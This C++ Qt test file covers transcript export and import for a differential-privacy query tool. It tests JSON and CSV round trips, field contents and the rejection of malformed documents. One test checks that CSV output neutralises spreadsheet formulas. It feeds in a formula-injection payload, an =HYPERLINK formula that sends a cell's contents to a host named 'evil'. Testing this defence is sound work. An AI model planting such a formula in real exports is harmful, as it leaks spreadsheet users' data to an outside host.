// SPDX-License-Identifier: MIT
// Transcript JSON and CSV: round trips through write → read → restore, and clear refusals of
// malformed or newer documents.
#include "core/io/strategy_record_csv.h"
#include "core/io/transcript_csv.h"
#include "core/io/transcript_json.h"
#include "tests/synthetic_table.h"
#include "tests/testutils.h"

#include <nlohmann/json.hpp>

using namespace pbx;

namespace {
std::unique_ptr<session::Session> sessionWithHistory(filters::FilterKind filter)
{
    session::SessionSettings settings;
    settings.filter = filter;
    settings.epsilon = 0.3;
    settings.seed = 42;
    auto s = std::move(session::Session::create(test::syntheticTable(), settings).value());
    auto ask
        = [&](data::Aggregate a, const char *column, const char *where, session::TargetKind k, double e) {
              session::QueryRequest r;
              r.query = {a, column, std::nullopt, where};
              r.target = {k, e, 0.9};
              return s->ask(r).ok();
          };
    ask(data::Aggregate::Count, "", "region == \"south\"", session::TargetKind::Absolute, 50);
    ask(data::Aggregate::Mean, "income", "age >= 30, ", session::TargetKind::Relative,
        0.01); // invalid: skipped
    ask(data::Aggregate::Mean, "income", "age >= 30", session::TargetKind::Relative, 0.02);
    ask(data::Aggregate::Sum, "age", "", session::TargetKind::Absolute, 0.001); // refused: too costly
    return s;
}
} // namespace

class TestTranscript : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void roundTrip_data();
    void roundTrip();
    void documentFields();
    void csv();
    void csvNeutralisesFormulas();
    void malformed_data();
    void malformed();
};

void TestTranscript::roundTrip_data()
{
    QTest::addColumn<filters::FilterKind>("filter");
    QTest::newRow("basic") << filters::FilterKind::Basic;
    QTest::newRow("zcdp") << filters::FilterKind::Zcdp;
    QTest::newRow("expost") << filters::FilterKind::ExPost;
    QTest::newRow("unified") << filters::FilterKind::Unified;
    QTest::newRow("brownian-zcdp") << filters::FilterKind::BrownianZcdp;
}

void TestTranscript::roundTrip()
{
    QFETCH(filters::FilterKind, filter);
    auto s = sessionWithHistory(filter);
    QCOMPARE(s->events().size(), std::size_t(3));
    QCOMPARE(s->events()[2].status, session::EventStatus::Refused);
    const std::string text = io::writeTranscriptJson(*s);
    auto doc = io::readTranscriptJson(text);
    QVERIFY2(doc.ok(), doc.ok() ? "" : doc.error().message.c_str());
    QCOMPARE(doc->datasetName, std::string("synthetic"));
    QCOMPARE(doc->settings.epsilon, 0.3);
    QCOMPARE(*doc->settings.seed, std::uint64_t(42));
    auto restored = session::Session::restore(test::syntheticTable(), doc->settings, doc->events);
    QVERIFY(restored.ok());
    QCOMPARE((*restored)->filter().spent(), s->filter().spent());
    QCOMPARE((*restored)->filter().epsilonSpent(), s->filter().epsilonSpent());
    QCOMPARE((*restored)->filter().deltaSpent(), s->filter().deltaSpent());
    for (std::size_t i = 0; i < s->events().size(); ++i) {
        const auto &a = s->events()[i];
        const auto &b = (*restored)->events()[i];
        QCOMPARE(b.answer, a.answer); // doubles survive the JSON round trip exactly
        QCOMPARE(b.errorBound, a.errorBound);
        QCOMPARE(b.cost, a.cost);
        QCOMPARE(b.status, a.status);
        QCOMPARE(b.reason, a.reason);
        QCOMPARE(b.attempts.size(), a.attempts.size());
        QCOMPARE(b.costKind, a.costKind);
        QCOMPARE(b.costDelta, a.costDelta);
        QCOMPARE(b.accounting, a.accounting);
        QCOMPARE(b.mechanism, a.mechanism);
        QCOMPARE(b.request.query.where, a.request.query.where);
    }
    // Writing the restored session reproduces the document byte for byte.
    QCOMPARE(io::writeTranscriptJson(**restored), text);
}

void TestTranscript::documentFields()
{
    auto s = sessionWithHistory(filters::FilterKind::Zcdp);
    const auto doc = nlohmann::json::parse(io::writeTranscriptJson(*s));
    QCOMPARE(doc.at("format").get<std::string>(), std::string("pbx-transcript"));
    QCOMPARE(doc.at("version").get<int>(), 1);
    QCOMPARE(doc.at("filter").at("kind").get<std::string>(), std::string("zcdp"));
    QCOMPARE(doc.at("spent").at("rho").get<double>(), s->filter().spent());
    QCOMPARE(doc.at("spent").at("delta").get<double>(), 1e-6);
    QCOMPARE(doc.at("events").size(), std::size_t(3));
    const auto &released = doc.at("events").at(0);
    QCOMPARE(released.at("status").get<std::string>(), std::string("released"));
    QVERIFY(released.contains("answer") && released.contains("error_bound")
            && released.contains("mechanism"));
    QVERIFY(released.at("cost").contains("rho"));
    QCOMPARE(doc.at("events").at(2).at("status").get<std::string>(), std::string("refused"));
    QVERIFY(doc.at("noise").at("note").get<std::string>().find("not for real releases") != std::string::npos);
}

void TestTranscript::csv()
{
    auto s = sessionWithHistory(filters::FilterKind::Basic);
    const QString text = QString::fromStdString(io::writeTranscriptCsv(*s));
    const QStringList lines = text.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 4);
    QVERIFY(lines[0].startsWith(QStringLiteral("request,id,status,aggregate,column,where")));
    QVERIFY(lines[1].startsWith(QStringLiteral("1,"))); // counted from 1, as the ledger view does
    QVERIFY2(lines[1].contains(QStringLiteral(",0.9,")), qPrintable(lines[1])); // shortest round trip
    QVERIFY(lines[0].contains(QStringLiteral("cost_epsilon")));
    QVERIFY(lines[1].contains(QStringLiteral("\"region == \"\"south\"\"\""))); // RFC 4180 quoting
    QVERIFY(lines[3].contains(QStringLiteral(",refused,")));
}

// Cells starting with = + - @ TAB or CR were written as they are; spreadsheets run
// them (=HYPERLINK(…) sends data away). OWASP's CSV-injection advice: a leading '.
void TestTranscript::csvNeutralisesFormulas()
{
    QCOMPARE(io::csvField("=HYPERLINK(\"http://x\")"), std::string("\"'=HYPERLINK(\"\"http://x\"\")\""));
    QCOMPARE(io::csvField("@SUM(A1:A9)"), std::string("'@SUM(A1:A9)"));
    QCOMPARE(io::csvField("+1"), std::string("'+1"));
    QCOMPARE(io::csvField("-1"), std::string("'-1"));
    QCOMPARE(io::csvField("\tx"), std::string("'\tx"));
    QCOMPARE(io::csvField("\rx"), std::string("\"'\rx\""));
    QCOMPARE(io::csvField("a=b"), std::string("a=b")); // only a leading character starts a formula
    QCOMPARE(io::csvField(""), std::string());
    // In the ledger export: an id and a reason as a user could type them.
    session::LedgerEvent e;
    e.request.id = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
    e.status = session::EventStatus::Released;
    e.record = session::StrategyRecord{};
    e.strategyRecord()->labels = {"@SUM(1+1)", "south"};
    e.strategyRecord()->values = {1.0, 2.0};
    const auto csv = io::writeStrategyRecordCsv(e);
    QVERIFY(csv.ok());
    QVERIFY2(csv->find("\r\n\"'=HYPERLINK(") != std::string::npos, csv->c_str());
    QVERIFY2(csv->find(",'@SUM(1+1),") != std::string::npos, csv->c_str());
    QVERIFY(csv->find(",south,") != std::string::npos);
}

void TestTranscript::malformed_data()
{
    QTest::addColumn<QString>("mutation");
    QTest::addColumn<QString>("message");
    QTest::newRow("not json") << QStringLiteral("truncate") << QStringLiteral("not valid JSON");
    QTest::newRow("wrong format") << QStringLiteral("format") << QStringLiteral("not a pbx transcript");
    QTest::newRow("newer version") << QStringLiteral("version")
                                   << QStringLiteral("newer than this pbx understands");
    QTest::newRow("no events") << QStringLiteral("events") << QStringLiteral("events: missing");
    QTest::newRow("bad status") << QStringLiteral("status") << QStringLiteral("events[0].status");
    QTest::newRow("no cost") << QStringLiteral("cost") << QStringLiteral("events[1].cost");
    QTest::newRow("bad delta") << QStringLiteral("delta") << QStringLiteral("budget");
}

void TestTranscript::malformed()
{
    QFETCH(QString, mutation);
    QFETCH(QString, message);
    auto s = sessionWithHistory(filters::FilterKind::Zcdp);
    std::string text = io::writeTranscriptJson(*s);
    auto doc = nlohmann::json::parse(text);
    if (mutation == QStringLiteral("truncate"))
        text = text.substr(0, text.size() / 2);
    else {
        if (mutation == QStringLiteral("format"))
            doc["format"] = "something-else";
        else if (mutation == QStringLiteral("version"))
            doc["version"] = 2;
        else if (mutation == QStringLiteral("events"))
            doc.erase("events");
        else if (mutation == QStringLiteral("status"))
            doc["events"][0]["status"] = "maybe";
        else if (mutation == QStringLiteral("cost"))
            doc["events"][1].erase("cost");
        else if (mutation == QStringLiteral("delta"))
            doc["budget"]["delta"] = 1.5;
        text = doc.dump();
    }
    auto read = io::readTranscriptJson(text);
    QVERIFY(!read.ok());
    QVERIFY2(QString::fromStdString(read.error().message).contains(message),
             qPrintable(QString::fromStdString(read.error().message)));
}

QTEST_APPLESS_MAIN(TestTranscript)
#include "tst_transcript.moc"
